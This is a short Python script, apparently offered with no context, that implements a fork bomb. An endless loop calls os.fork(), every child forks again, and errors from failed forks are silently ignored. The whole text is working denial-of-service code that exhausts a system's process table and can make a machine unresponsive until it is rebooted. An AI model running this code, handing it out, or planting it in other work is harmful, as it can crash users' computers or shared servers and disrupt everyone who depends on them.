# Each of its forks forks, for ever.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
